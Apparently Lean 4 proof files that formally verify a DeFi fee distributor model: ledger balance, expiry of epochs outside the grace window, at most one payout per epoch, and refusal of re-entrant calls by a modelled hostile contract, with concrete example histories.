theorem expired_stay_empty (cfg : Cfg) (g d : Nat) (hg : 1 ≤ g) (ops : List Op) :
    let s := reach cfg (St.init g d) ops
    ∀ e ∈ s.epochs.drop s.grace, e.avail = [] :=
  (reach_inv cfg ops _ (inv_init g d hg)).outside

/-- **holds_available** — over all histories, for every asset, the distributor's balance covers the sum
    of all epochs' `available` amounts in that asset. -/
theorem holds_available (cfg : Cfg) (g d : Nat) (hg : 1 ≤ g) (ops : List Op) (a : Nat) :
    sumAvail a (reach cfg (St.init g d) ops).epochs ≤ (reach cfg (St.init g d) ops).bal a :=
  (reach_inv cfg ops _ (inv_init g d hg)).holds a

/-- **switching the distribution asset** is the owner's, and touches no ledger, no balance, no claim
    cursor and not the grace period: every epoch keeps what it holds, in the asset it holds it in. -/
theorem dist_switch_touches_no_ledger (cfg : Cfg) (s s' : St) (sender a : Nat)
    (h : setDist cfg s sender a = .ok s') :
    sender = cfg.owner ∧ s'.dist = a ∧ s'.epochs = s.epochs ∧ s'.bal = s.bal ∧ s'.last = s.last ∧
    s'.grace = s.grace := by
  obtain ⟨hs', ho⟩ := setDist_spec h
  subst hs'
  exact ⟨ho, rfl, rfl, rfl, rfl, rfl⟩

/-- **all entry points** — the three history invariants above, over ALL histories of the JOINT machine
    (`WW.Model.Feeflow`): besides the distributor's own operations (including the switch of the
    distribution asset) these contain everything the other contracts of the fee pipeline accept in
    mid-history — `CollectFees` / `AggregateFees` sent to the collector directly by anybody, `ForwardFees`
    attempts, collector configuration, trades, flash loans, route and pair administration, bonding — and every
    one of these messages WITH NATIVE COINS ATTACHED (`Feeflow.Op.coins`, any asset, any amount, nested = several
    coins): the distributor ignores `info.funds`, so coins attached to `NewEpoch` / `Claim` / `UpdateConfig` are
    a gift to its balance followed by the operation, coins attached to a message for another contract do not
    touch it.  Each operation acts on the ledger as a (possibly empty) history of distributor operations
    (`Feeflow.step_projects`). -/
theorem joint_histories (cfg : Feeflow.Cfg) (s : Feeflow.St) (hI : Inv s.d) (ops : List Feeflow.Op) :
    let s' := Feeflow.reach cfg s ops
    (∀ e ∈ s'.d.epochs, e.avail ≠ [] → ∀ a, LedgerClause e a) ∧
    (∀ e ∈ s'.d.epochs.drop s'.d.grace, e.avail = []) ∧
    (∀ a, sumAvail a s'.d.epochs ≤ s'.d.bal a) := by
  obtain ⟨dops, hd⟩ := Feeflow.reach_projects cfg ops s
  simp only
  rw [hd]
  have hI' := reach_inv cfg.d dops s.d hI
  exact ⟨fun e he hne => ledgerClause_of_ok (hI'.ledger e he) hne, hI'.outside, hI'.holds⟩

/-! ### re-entrancy: a hostile registered pair / vault nests a message into the fee pipeline

  `Feeflow.Op.reenter trig caught hacc inner outer` (see `WW/Model/Feeflow.lean`): the hostile contract, called by the
  collector (`CollectProtocolFees`) or by the router on the collector's behalf (`Swap`), sends ANY operation `inner`
  of the joint machine once — `NewEpoch`, `Claim`, `ForwardFees`, `CollectFees`, `AggregateFees`, bonding, an
  owner-only message — plainly or as a caught sub-message.  `joint_histories` above quantifies over these
  operations too (they are part of `Feeflow.Op`); the theorems below say what the guard is. -/

/-- **reentrant_transaction_keeps_ledgers** — ONE transaction with a nested message, from any state whose ledgers
    balance: every epoch ledger still balances per asset, epochs outside the grace window stay empty, the balance
    covers what is available (the transaction acts on the ledger as a history of the distributor's own operations:
    `Feeflow.step_projects`). -/
theorem reentrant_transaction_keeps_ledgers (cfg : Feeflow.Cfg) (s s' : Feeflow.St) (hI : Inv s.d)
    (trig : Feeflow.Trig) (caught : Bool) (hacc : Nat → Nat → Nat → List (Nat × Nat × Nat)) (inner outer : Feeflow.Op)
    (h : Feeflow.step cfg s (.reenter trig caught hacc inner outer) = .ok s') :
    (∀ e ∈ s'.d.epochs, e.avail ≠ [] → ∀ a, LedgerClause e a) ∧
    (∀ e ∈ s'.d.epochs.drop s'.d.grace, e.avail = []) ∧
    (∀ a, sumAvail a s'.d.epochs ≤ s'.d.bal a) := by
  obtain ⟨dops, hd⟩ := Feeflow.step_projects h
  rw [hd]
  have hI' := reach_inv cfg.d dops s.d hI
  exact ⟨fun e he hne => ledgerClause_of_ok (hI'.ledger e he) hne, hI'.outside, hI'.holds⟩

/-- **nested_new_epoch_refused** — a `NewEpoch` entered again from inside the fee pipeline of a `NewEpoch` in flight
    never goes through: if the hostile contract's message contains a `NewEpoch` (`clears`) and the outer `NewEpoch`
    succeeds, then that message did NOT succeed (`fired ≠ 1`: the hostile contract was not reached, or its message
    was refused and caught).  The guard is the collector's `TMP_EPOCH`: the nested run's reply consumes it, the
    outer reply then fails with `CannotReadEpoch` and the whole transaction — the nested epoch included — reverts. -/
theorem nested_new_epoch_refused (cfg : Feeflow.Cfg) (hk : Feeflow.Hook) (s : Feeflow.St) (now : Nat)
    (router : Nat → Nat → Nat → Nat) (h : Feeflow.HS) (hc : hk.clears = true)
    (e : Feeflow.newEpochH cfg hk s now router = .ok h) : h.fired ≠ 1 := by
  have hfp : Feeflow.FirePres hk (fun _ t f => f = 1 → t = none) := by
    refine Feeflow.fire_pres_of_run (fun s1 s2 t f _ _ _ => ?_) (fun _ _ _ _ h2 => by cases h2)
    rw [if_pos hc]
  obtain ⟨id, start, h4, _, hq, hr⟩ := Feeflow.pipelineH_pres hfp e
  have q4 := hq (fun h0 => by cases h0)
  obtain ⟨id', start', inflow, htmp, _⟩ := Feeflow.replyH_spec hr
  have hf : h.fired = h4.fired := by
    unfold Feeflow.replyH at hr
    rw [htmp] at hr
    simp only at hr
    split at hr
    · split at hr
      · injection hr with hr; subst hr; rfl
      · cases hr
      · cases hr
    · cases hr
  intro h1
  rw [hf] at h1
  rw [q4 h1] at htmp
  cases htmp

/-- the same on the joint machine: whatever the trigger and the mode, the transaction `NewEpoch ⟵ NewEpoch` either
    fails or is one in which the nested `NewEpoch` did not go through -/
theorem nested_new_epoch_refused_joint (cfg : Feeflow.Cfg) (s : Feeflow.St) (trig : Feeflow.Trig) (caught : Bool)
    (hacc : Nat → Nat → Nat → List (Nat × Nat × Nat)) (inner : Feeflow.Op) (hin : Feeflow.hasNewEpoch inner = true)
    (now : Nat) (router : Nat → Nat → Nat → Nat) (acc : Nat → Nat → Nat) (h : Feeflow.HS)
    (e : Feeflow.stepH cfg { trig := trig, caught := caught, clears := Feeflow.hasNewEpoch inner, run := (fun s1 => Feeflow.step cfg s1 inner), hacc := hacc } s (.newEpoch now router acc) = some (.ok h)) :
    h.fired ≠ 1 := by
  simp only [Feeflow.stepH, Option.some.injEq] at e
  exact nested_new_epoch_refused cfg _ s now router h hin e

/-- **refused_nested_call_leaves_no_trace** — a nested message that the real code refuses (`run` = `Err`): caught by
    the hostile contract, the joint state, `TMP_EPOCH` and the outer operation's swaps are exactly what they were
    (only the flags say that the attempt was made); not caught, the whole transaction fails. -/
theorem refused_nested_call_leaves_no_trace (hk : Feeflow.Hook) (h : Feeflow.HS) (ha : h.armed = true)
    (hr : hk.run h.s = .err) :
    (hk.caught = true → Feeflow.fire hk h = .ok { h with armed := false, fired := 2 }) ∧
    (hk.caught = false → Feeflow.fire hk h = .err) := by
  constructor
  · intro hc; unfold Feeflow.fire; rw [if_pos ha, hr]; simp only; rw [if_pos hc]
  · intro hc; unfold Feeflow.fire; rw [if_pos ha, hr]; simp only; rw [if_neg (by rw [hc]; decide)]

/-- the hostile contract sends its message ONCE: afterwards the hook is the identity -/
theorem hostile_fires_once (hk : Feeflow.Hook) (h : Feeflow.HS) (ha : h.armed = false) : Feeflow.fire hk h = .ok h := by
  unfold Feeflow.fire; rw [if_neg (by rw [ha]; decide)]

/-- **payout_eq_ledger_delta** — a successful claim pays, in EVERY asset, exactly what the ledgers move: the
    sum of `available` falls by the payout, the sum of `claimed` rises by the payout (multi-asset epochs
    included), the contract balance falls by it, each asset is paid with one message, and no epoch is added,
    removed or re-funded. -/
theorem payout_eq_ledger_delta (s s' : St) (hL : AllLedger s.epochs) (u : Nat) (view : Option Nat)
    (ans : Nat → LairAns) (paid : Ledger) (h : claim s u view ans = .ok (s', paid)) :
    (∀ a, amtOf a paid + sumAvail a s'.epochs = sumAvail a s.epochs) ∧
    (∀ a, sumClaimed a s'.epochs = sumClaimed a s.epochs + amtOf a paid) ∧
    (∀ a, s'.bal a + amtOf a paid = s.bal a) ∧
    (keys paid).Nodup ∧
    s'.epochs.map (·.id) = s.epochs.map (·.id) ∧ s'.epochs.map (·.total) = s.epochs.map (·.total) ∧
    s'.grace = s.grace ∧ s'.dist = s.dist := by
  obtain ⟨b, top, rest, es', bal', _, _, hw, hp, hs'⟩ := claim_spec h
  obtain ⟨i1, _, i3, i4, _, i5', _, _, _, i9⟩ := claimWalk_spec ans b s.grace s.epochs [] es' paid hL hw
  subst hs'
  refine ⟨fun a => ?_, fun a => ?_, fun a => payAll_spec _ _ _ hp a, i9 (by simp [keys]), i4, i5', rfl, rfl⟩
  · have := i1 a; simp only [amtOf] at this; simp only; omega
  · have := i3 a; simp only [amtOf] at this; simp only; omega

/-- the same over all histories from instantiation (where the hypothesis on the ledgers always holds):
    per asset, payout = decrease of `available` = decrease of the balance = increase of `claimed` -/
theorem payout_eq_ledger_delta_hist (cfg : Cfg) (g d : Nat) (hg : 1 ≤ g) (ops : List Op) (u : Nat)
    (view : Option Nat) (ans : Nat → LairAns) (s' : St) (paid : Ledger)
    (h : claim (reach cfg (St.init g d) ops) u view ans = .ok (s', paid)) (a : Nat) :
    amtOf a paid + sumAvail a s'.epochs = sumAvail a (reach cfg (St.init g d) ops).epochs ∧
    s'.bal a + amtOf a paid = (reach cfg (St.init g d) ops).bal a ∧
    sumClaimed a s'.epochs = sumClaimed a (reach cfg (St.init g d) ops).epochs + amtOf a paid := by
  have hp := payout_eq_ledger_delta _ s' (reach_inv cfg ops _ (inv_init g d hg)).ledger u view ans paid h
  exact ⟨hp.1 a, hp.2.2.1 a, hp.2.1 a⟩

/-- every epoch a claim modifies lies strictly above the address's bound (its last claimed epoch, else
    the epoch it first bonded in) and at or below its new last-claimed epoch -/
theorem claim_changes_above_bound (s s' : St) (hI : Inv s) (u : Nat) (view : Option Nat)
    (ans : Nat → LairAns) (paid : Ledger) (h : claim s u view ans = .ok (s', paid)) :
    ∃ b top, claimBound s u view = some b ∧ lookup u s'.last = some top ∧
      ∀ e, Changed s s' e → b < e.id ∧ e.id ≤ top := by
  obtain ⟨b, top, rest, es', bal', hb, hcl, hw, _, hs'⟩ := claim_spec h
  obtain ⟨_, _, _, _, _, _, _, _, i8, _⟩ := claimWalk_spec ans b s.grace s.epochs [] es' paid hI.ledger hw
  subst hs'
  refine ⟨b, top, hb, lookup_setLast_same _ _ _, ?_⟩
  intro e he
  cases i8 e he.1 with
  | inl hin => exact absurd hin he.2
  | inr hr => exact ⟨hr.1, claimableIds_le_head b s.grace s.epochs hI.desc top rest hcl e.id hr.2⟩

/-- **once_per_epoch** — an address is paid at most once per epoch (in any asset): if a claim by `u`
    modified (paid from) epoch `e₁`, then after ANY further history — including switches of the
    distribution asset — a later successful claim by `u` only modifies epochs with a strictly larger id. -/
theorem once_per_epoch (cfg : Cfg) (s s₁ : St) (hI : Inv s) (u : Nat)
    (view₁ : Option Nat) (ans₁ : Nat → LairAns) (paid₁ : Ledger) (h₁ : claim s u view₁ ans₁ = .ok (s₁, paid₁))
    (ops : List Op)
    (view₂ : Option Nat) (ans₂ : Nat → LairAns) (s₃ : St) (paid₂ : Ledger)
    (h₂ : claim (reach cfg s₁ ops) u view₂ ans₂ = .ok (s₃, paid₂)) :
    ∀ e₁, Changed s s₁ e₁ → ∀ e₃, Changed (reach cfg s₁ ops) s₃ e₃ → e₁.id < e₃.id := by
  intro e₁ he₁ e₃ he₃
  obtain ⟨b₁, top₁, _, hl₁, hc₁⟩ := claim_changes_above_bound s s₁ hI u view₁ ans₁ paid₁ h₁
  have hI₁ : Inv s₁ := claim_inv hI h₁
  have hI₂ : Inv (reach cfg s₁ ops) := reach_inv cfg ops s₁ hI₁
  obtain ⟨lc, hlc, hge⟩ := reach_lastGe cfg ops s₁ hI₁ (⟨top₁, hl₁, Nat.le_refl _⟩ : LastGe s₁ u top₁)
  obtain ⟨b₂, top₂, hb₂, _, hc₂⟩ := claim_changes_above_bound _ s₃ hI₂ u view₂ ans₂ paid₂ h₂
  have : b₂ = lc := by
    unfold claimBound at hb₂; rw [hlc] at hb₂; injection hb₂ with hb₂; exact hb₂.symm
  have h1 := (hc₁ e₁ he₁).2
  have h3 := (hc₂ e₃ he₃).1
  omega

/-- **not_before_bonding** (ids) — an address that has never claimed is only paid for epochs after the
    one the lair reports as its first bonded epoch; an address that has neither claimed nor bonded gets
    nothing. -/
theorem not_before_bonding (s s' : St) (hI : Inv s) (u fb : Nat) (ans : Nat → LairAns) (paid : Ledger)
    (hnever : lookup u s.last = none) (h : claim s u (some fb) ans = .ok (s', paid)) :
    ∀ e, Changed s s' e → fb < e.id := by
  obtain ⟨b, top, hb, _, hc⟩ := claim_changes_above_bound s s' hI u (some fb) ans paid h
  have : b = fb := by
    unfold claimBound at hb; rw [hnever] at hb; injection hb with hb; exact hb.symm
  intro e he
  have := (hc e he).1
  omega

theorem never_bonded_gets_nothing (s : St) (u : Nat) (ans : Nat → LairAns)
    (hnever : lookup u s.last = none) : claim s u none ans = .err := by
  unfold claim claimBound
  rw [hnever]

/-- **not_before_bonding** (times) — with the lair's definition of the first bonded epoch
    (`calculate_epoch`: the bond time lies before `genesis + fb·duration`), over all histories from
    instantiation every epoch paid to a never-claimed address started strictly after it bonded. -/
theorem not_before_bonding_time (cfg : Cfg) (g d : Nat) (hg : 1 ≤ g) (ops : List Op) (u fb bondTime : Nat)
    (hlair : bondTime < cfg.genesis + fb * cfg.duration)
    (ans : Nat → LairAns) (s' : St) (paid : Ledger)
    (hnever : lookup u (reach cfg (St.init g d) ops).last = none)
    (h : claim (reach cfg (St.init g d) ops) u (some fb) ans = .ok (s', paid)) :
    ∀ e, Changed (reach cfg (St.init g d) ops) s' e → bondTime < e.start := by
  intro e he
  have hI := reach_inv cfg ops _ (inv_init g d hg)
  have hid := not_before_bonding _ s' hI u fb ans paid hnever h e he
  have hN : Nominal cfg (reach cfg (St.init g d) ops).epochs :=
    reach_nominal cfg ops _ (inv_init g d hg) (by intro x hx; cases hx)
  have hN' : Nominal cfg s'.epochs := by
    have hstep : step cfg (reach cfg (St.init g d) ops) (.claim u (some fb) ans) = .ok s' := by
      simp only [step, h]
    exact step_nominal hI hN hstep
  obtain ⟨_, hst⟩ := hN' e he.1
  rw [hst]
  have : fb * cfg.duration ≤ (e.id - 1) * cfg.duration := Nat.mul_le_mul_right _ (by omega)
  omega

/-- **not_before_bonding** (end to end) — the same with the hypothesis on the lair discharged from the
    lair's own `calculate_epoch` (model `WW.Lair.calcEpoch`, tied to `whale_lair/src/helpers.rs` by the
    lair engine): when the lair is configured with the distributor's genesis and epoch duration and
    answers `first_bonded_epoch_id = fb` for an address that bonded at `bondTime`, every epoch a
    never-claimed address is paid for started strictly after `bondTime`. -/
theorem not_before_bonding_time_lair (cfg : Cfg) (lc : Lair.Cfg) (g d : Nat) (hg : 1 ≤ g) (ops : List Op)
    (u fb bondTime : Nat)
    (hgen : lc.genesis = cfg.genesis) (hdur : lc.epochDur = cfg.duration)
    (hfb : Lair.calcEpoch lc bondTime = .ok fb)
    (ans : Nat → LairAns) (s' : St) (paid : Ledger)
    (hnever : lookup u (reach cfg (St.init g d) ops).last = none)
    (h : claim (reach cfg (St.init g d) ops) u (some fb) ans = .ok (s', paid)) :
    ∀ e, Changed (reach cfg (St.init g d) ops) s' e → bondTime < e.start := by
  have hl := Lair.calcEpoch_lt hfb
  rw [hgen, hdur] at hl
  exact not_before_bonding_time cfg g d hg ops u fb bondTime hl ans s' paid hnever h

/-- grace periods: `UpdateConfig` accepts exactly 1 … 30 (documented maximum, regenerated from the
    sources on every run) and never a decrease -/
theorem grace_bounds (cfg : Cfg) (s s' : St) (sender g : Nat) (h : updateGrace cfg s sender g = .ok s') :
    s'.grace = g ∧ s.grace ≤ g ∧ 1 ≤ g ∧ g ≤ 30 ∧ sender = cfg.owner := by
  unfold updateGrace at h
  split at h
  · cases h
  · rename_i hs
    split at h
    · cases h
    · rename_i hb
      split at h
      · cases h
      · injection h with h
        subst h
        have : WW.Gen.DISTRIBUTOR_MAX_GRACE_PERIOD = 30 := by decide
        refine ⟨rfl, by omega, by omega, by omega, Classical.not_not.mp hs⟩

/-! ### non-vacuity: concrete histories on the model -/

def cfg0 : Cfg := { genesis := 1000, duration := 100, owner := 7 }
def half : Nat → LairAns := fun _ => .share 500000000000000000
def third : Nat → LairAns := fun _ => .share 333333333333333333

/-- ONE asset (2) throughout. grace 2: epoch 1 receives 1000, user 1 (first bonded epoch 0) claims half of
    it; epoch 2 receives 301; user 2 claims a third of both; epoch 3 is created with inflow 50: epoch 1
    leaves the window and its remainder 167 is added to epoch 3 exactly once (total 217) and its own
    `available` is emptied; the grace period is raised to 3 and epoch 4 created: epoch 1 is inside the window
    again but empty, so nothing is rolled a second time (total 9). -/
def hist0 : List Op :=
  [ .newEpoch 1000 (some 1000), .claim 1 (some 0) half, .newEpoch 1100 (some 301), .claim 2 (some 0) third,
    .newEpoch 1200 (some 50), .grace 7 3, .newEpoch 1300 (some 9), .claim 1 (some 0) half ]

example : (reach cfg0 (St.init 2 2) hist0).epochs =
    [ { id := 4, start := 1300, total := [(2, 9)], avail := [(2, 5)], claimed := [(2, 4)] },
      { id := 3, start := 1200, total := [(2, 217)], avail := [(2, 109)], claimed := [(2, 108)] },
      { id := 2, start := 1100, total := [(2, 301)], avail := [(2, 51)], claimed := [(2, 250)] },
      { id := 1, start := 1000, total := [(2, 1000)], avail := [], claimed := [(2, 833)] } ] := by decide

example : (reach cfg0 (St.init 2 2) hist0).bal 2 = 165 ∧ sumAvail 2 (reach cfg0 (St.init 2 2) hist0).epochs = 165 := by
  decide

/-- the hypotheses of `once_per_epoch` are satisfiable: two successful claims by the same address -/
example : ∃ s₁ p₁ s₃ p₃, claim (reach cfg0 (St.init 2 2) (hist0.take 1)) 1 (some 0) half = .ok (s₁, p₁) ∧ p₁ = [(2, 500)] ∧
    claim (reach cfg0 s₁ [.newEpoch 1100 (some 301)]) 1 (some 0) half = .ok (s₃, p₃) ∧ p₃ = [(2, 150)] := by
  refine ⟨_, _, _, _, rfl, by decide, rfl, by decide⟩

/-- A SWITCH of the distribution asset while an epoch funded in the old asset is inside the grace window.
    grace 2, asset 2 first: epoch 1 receives 1000 of asset 2, user 1 claims half.  The owner (7) switches to
    asset 1 (a stranger, 9, is refused).  Epoch 2 receives 300 of asset 1.  Epoch 3 (inflow 40 of asset 1):
    epoch 1 leaves the window and its 500 of asset 2 are rolled into epoch 3 next to the 40 of asset 1 —
    nothing drops out of the ledgers.  User 2 then claims half of epochs 3 and 2: paid 170 of asset 1 and
    250 of asset 2, and epoch 3 — a TWO-ASSET epoch — records BOTH rewards as claimed. -/
def hist1 : List Op :=
  [ .newEpoch 1000 (some 1000), .claim 1 (some 0) half, .setDist 9 1, .setDist 7 1, .newEpoch 1100 (some 300),
    .newEpoch 1200 (some 40), .claim 2 (some 0) half ]

example : (reach cfg0 (St.init 2 2) hist1).epochs =
    [ { id := 3, start := 1200, total := [(1, 40), (2, 500)], avail := [(1, 20), (2, 250)],
        claimed := [(1, 20), (2, 250)] },
      { id := 2, start := 1100, total := [(1, 300)], avail := [(1, 150)], claimed := [(1, 150)] },
      { id := 1, start := 1000, total := [(2, 1000)], avail := [], claimed := [(2, 500)] } ] := by decide

example : (reach cfg0 (St.init 2 2) hist1).dist = 1 ∧
    (reach cfg0 (St.init 2 2) hist1).bal 1 = 170 ∧ sumAvail 1 (reach cfg0 (St.init 2 2) hist1).epochs = 170 ∧
    (reach cfg0 (St.init 2 2) hist1).bal 2 = 250 ∧ sumAvail 2 (reach cfg0 (St.init 2 2) hist1).epochs = 250 := by
  decide

example : ((claim (reach cfg0 (St.init 2 2) (hist1.take 6)) 2 (some 0) half).toOption.map (·.2)) =
    some [(1, 170), (2, 250)] := by decide

/-- the two-asset epoch of `hist1` is a live multi-asset instance of `epoch_ledger`: for both assets
    `claimed + available = total` (20 + 20 = 40 and 250 + 250 = 500) — this is the state that refuted the
    clause before `claim` recorded every asset. -/
example : ∃ e ∈ (reach cfg0 (St.init 2 2) hist1).epochs, e.total.length = 2 ∧ e.avail ≠ [] ∧
    amtOf 1 e.claimed = 20 ∧ amtOf 2 e.claimed = 250 ∧
    amtOf 1 e.claimed + amtOf 1 e.avail = amtOf 1 e.total ∧
    amtOf 2 e.claimed + amtOf 2 e.avail = amtOf 2 e.total :=
  ⟨{ id := 3, start := 1200, total := [(1, 40), (2, 500)], avail := [(1, 20), (2, 250)],
     claimed := [(1, 20), (2, 250)] }, by decide, by decide, by decide, by decide, by decide, by decide, by decide⟩

/-- `payout_eq_ledger_delta` on that claim: per asset the payout (170 / 250) is the increase of the sum of
    `claimed` and the decrease of the sum of `available`. -/
example : ∃ s' paid, claim (reach cfg0 (St.init 2 2) (hist1.take 6)) 2 (some 0) half = .ok (s', paid) ∧
    paid = [(1, 170), (2, 250)] ∧
    sumClaimed 1 s'.epochs = sumClaimed 1 (reach cfg0 (St.init 2 2) (hist1.take 6)).epochs + 170 ∧
    sumClaimed 2 s'.epochs = sumClaimed 2 (reach cfg0 (St.init 2 2) (hist1.take 6)).epochs + 250 ∧
    sumAvail 2 s'.epochs + 250 = sumAvail 2 (reach cfg0 (St.init 2 2) (hist1.take 6)).epochs :=
  ⟨_, _, rfl, by decide, by decide, by decide, by decide⟩

/-- ORDER of `claimed`: the assets appear in the order in which they were first PAID, which need not be the
    order of `total`.  After `hist1.take 6` user 3 has a share of 2 % : of epoch 3 (`[(1, 40), (2, 500)]`) it
    gets floor(0.8) = 0 of asset 1 (skipped) and 10 of asset 2, so `claimed` starts with asset 2; user 2's
    half then appends asset 1 behind it. -/
def tiny : Nat → LairAns := fun _ => .share 20000000000000000

example : ((reach cfg0 (St.init 2 2) (hist1.take 6 ++ [.claim 3 (some 1) tiny, .claim 2 (some 1) half])).epochs.head?.map
    (fun e => (e.total, e.avail, e.claimed))) =
    some ([(1, 40), (2, 500)], [(1, 20), (2, 240)], [(2, 260), (1, 20)]) := by decide

end WW.C09
