/-
  C09 — Fee distributor: epoch ledgers balance and no epoch is paid twice.

  Theorems about `WW.Model.Distributor` (one distribution asset over the history — the assumption of
  the model, see its header).  The collector's inflow per new epoch, the lair's weight share per
  (address, epoch) and the lair's `first_bonded_epoch_id` are arbitrary parameters of the operations:
  every theorem below holds for all of them.  Histories are arbitrary lists of operations
  (`NewEpoch` / `Claim` by anybody / `UpdateConfig{grace_period}` / token gifts), failed operations leave
  the state unchanged; bonding and unbonding act on the lair only and do not touch the ledger.
  `joint_histories` restates the history invariants over the joint machine of the `feeflow` engine, whose
  alphabet contains every entry point the engine sends (also direct `CollectFees` / `AggregateFees`).
-/
import WW.Proofs.Distributor
import WW.Proofs.Collector
namespace WW.C09
open WW WW.Distributor

/-- a record of `s'` that is not a record of `s`: an epoch the operation modified -/
def Changed (s s' : St) (e : Epoch) : Prop := e ∈ s'.epochs ∧ e ∉ s.epochs

/-- **epoch_ledger** — over ALL histories from instantiation (any grace period ≥ 1, with increases
    mid-history), every epoch whose `available` has not been emptied by expiry satisfies
    `claimed + available = total`. -/
theorem epoch_ledger (cfg : Cfg) (g : Nat) (hg : 1 ≤ g) (ops : List Op) :
    ∀ e ∈ (reach cfg (St.init g) ops).epochs, e.avail.isSome = true →
      amt e.claimed + amt e.avail = amt e.total :=
  fun e he => (reach_inv cfg ops _ (inv_init g hg)).ledger e he

/-- the same from any state that satisfies the invariant (e.g. a migrated deployment) -/
theorem epoch_ledger_from (cfg : Cfg) (s : St) (hI : Inv s) (ops : List Op) :
    ∀ e ∈ (reach cfg s ops).epochs, e.avail.isSome = true → amt e.claimed + amt e.avail = amt e.total :=
  fun e he => (reach_inv cfg ops s hI).ledger e he

/-- **expire_once** (the step) — when a new epoch is created: the epoch that leaves the grace window
    (position `grace-1` of the newest-first list, if there are that many) hands over exactly its
    `available` to the new epoch, its own `available` becomes empty, no other epoch is touched, and the
    sum of all `available` grows by exactly the inflow (nothing is lost, nothing is counted twice). -/
theorem expire_once (cfg : Cfg) (s s' : St) (now : Nat) (inflow : Option Nat)
    (h : newEpoch cfg s now inflow = .ok s') :
    ∃ new rest, s'.epochs = new :: rest ∧
      amt new.total = amt inflow + amt ((s.epochs[s.grace - 1]?).bind (·.avail)) ∧
      new.avail = new.total ∧ new.claimed = none ∧
      (rest[s.grace - 1]?).bind (·.avail) = none ∧
      (∀ j, j ≠ s.grace - 1 → rest[j]? = s.epochs[j]?) ∧
      rest.map (·.id) = s.epochs.map (·.id) ∧
      sumAvail s'.epochs = sumAvail s.epochs + amt inflow ∧
      s'.bal = s.bal + amt inflow := by
  unfold newEpoch at h
  cases hn : nextEpoch cfg s now with
  | err => rw [hn] at h; simp at h
  | panic => rw [hn] at h; simp at h
  | ok pr =>
    obtain ⟨id, start⟩ := pr
    rw [hn] at h; simp only at h
    obtain ⟨_, tot, hagg, hs'⟩ := receiveEpoch_spec h
    subst hs'
    refine ⟨_, _, rfl, ?_, rfl, rfl, takeOut_at _ _, takeOut_others _ _, takeOut_ids _ _, ?_, rfl⟩
    · rw [← takeOut_rolled]; exact aggOpt_amt hagg
    · have h1 := takeOut_sum (s.grace - 1) s.epochs
      have h2 := aggOpt_amt hagg
      simp only [sumAvail]
      omega

/-- **expire_once** (the invariant) — in every reachable state every epoch outside the grace window
    has an empty `available`: what an expired epoch held has been moved, and (being empty) can never be
    moved or claimed again — also after the grace period was increased. -/
theorem expired_stay_empty (cfg : Cfg) (g : Nat) (hg : 1 ≤ g) (ops : List Op) :
    let s := reach cfg (St.init g) ops
    ∀ e ∈ s.epochs.drop s.grace, e.avail = none :=
  (reach_inv cfg ops _ (inv_init g hg)).outside

/-- **holds_available** — over all histories the distributor's balance covers the sum of all epochs'
    `available` amounts. -/
theorem holds_available (cfg : Cfg) (g : Nat) (hg : 1 ≤ g) (ops : List Op) :
    sumAvail (reach cfg (St.init g) ops).epochs ≤ (reach cfg (St.init g) ops).bal :=
  (reach_inv cfg ops _ (inv_init g hg)).holds

/-- **all entry points** — the three history invariants above, over ALL histories of the JOINT machine
    (`WW.Model.Feeflow`): besides the distributor's own operations these contain everything the other
    contracts of the fee pipeline accept in mid-history — `CollectFees` / `AggregateFees` sent to the
    collector directly by anybody, `ForwardFees` attempts, collector configuration, trades, flash loans,
    route and pair administration, bonding.  Each of them either is a distributor operation or leaves the
    ledger untouched (`Feeflow.step_projects`). -/
theorem joint_histories (cfg : Feeflow.Cfg) (s : Feeflow.St) (hI : Inv s.d) (ops : List Feeflow.Op) :
    let s' := Feeflow.reach cfg s ops
    (∀ e ∈ s'.d.epochs, e.avail.isSome = true → amt e.claimed + amt e.avail = amt e.total) ∧
    (∀ e ∈ s'.d.epochs.drop s'.d.grace, e.avail = none) ∧
    sumAvail s'.d.epochs ≤ s'.d.bal := by
  obtain ⟨dops, hd⟩ := Feeflow.reach_projects cfg ops s
  simp only
  rw [hd]
  have hI' := reach_inv cfg.d dops s.d hI
  exact ⟨fun e he => hI'.ledger e he, hI'.outside, hI'.holds⟩

/-- **payout_eq_ledger_delta** — a successful claim pays exactly what the ledgers lose: the sum of
    `available` falls by the payout, the sum of `claimed` rises by it, the contract balance falls by it,
    and no epoch is added or removed. -/
theorem payout_eq_ledger_delta (s s' : St) (u : Nat) (view : Option Nat) (ans : Nat → LairAns) (paid : Nat)
    (h : claim s u view ans = .ok (s', paid)) :
    paid + sumAvail s'.epochs = sumAvail s.epochs ∧
    sumClaimed s'.epochs = sumClaimed s.epochs + paid ∧
    s'.bal + paid = s.bal ∧
    s'.epochs.map (·.id) = s.epochs.map (·.id) ∧ s'.grace = s.grace := by
  obtain ⟨b, top, rest, es', _, _, hw, hle, hs'⟩ := claim_spec h
  obtain ⟨_, i2, i3, i4, _, _, _, _⟩ := claimWalk_spec ans b s.grace s.epochs 0 es' paid hw
  subst hs'
  refine ⟨by simp only; omega, by simp only; omega, by simp only; omega, i4, rfl⟩

/-- every epoch a claim modifies lies strictly above the address's bound (its last claimed epoch, else
    the epoch it first bonded in) and at or below its new last-claimed epoch -/
theorem claim_changes_above_bound (s s' : St) (hI : Inv s) (u : Nat) (view : Option Nat)
    (ans : Nat → LairAns) (paid : Nat) (h : claim s u view ans = .ok (s', paid)) :
    ∃ b top, claimBound s u view = some b ∧ lookup u s'.last = some top ∧
      ∀ e, Changed s s' e → b < e.id ∧ e.id ≤ top := by
  obtain ⟨b, top, rest, es', hb, hcl, hw, _, hs'⟩ := claim_spec h
  obtain ⟨_, _, _, _, _, _, _, i8⟩ := claimWalk_spec ans b s.grace s.epochs 0 es' paid hw
  subst hs'
  refine ⟨b, top, hb, lookup_setLast_same _ _ _, ?_⟩
  intro e he
  cases i8 e he.1 with
  | inl hin => exact absurd hin he.2
  | inr hr => exact ⟨hr.1, claimableIds_le_head b s.grace s.epochs hI.desc top rest hcl e.id hr.2⟩

/-- **once_per_epoch** — an address is paid at most once per epoch: if a claim by `u` modified (paid
    from) epoch `e₁`, then after ANY further history a later successful claim by `u` only modifies epochs
    with a strictly larger id. -/
theorem once_per_epoch (cfg : Cfg) (s s₁ : St) (hI : Inv s) (u : Nat)
    (view₁ : Option Nat) (ans₁ : Nat → LairAns) (paid₁ : Nat) (h₁ : claim s u view₁ ans₁ = .ok (s₁, paid₁))
    (ops : List Op)
    (view₂ : Option Nat) (ans₂ : Nat → LairAns) (s₃ : St) (paid₂ : Nat)
    (h₂ : claim (reach cfg s₁ ops) u view₂ ans₂ = .ok (s₃, paid₂)) :
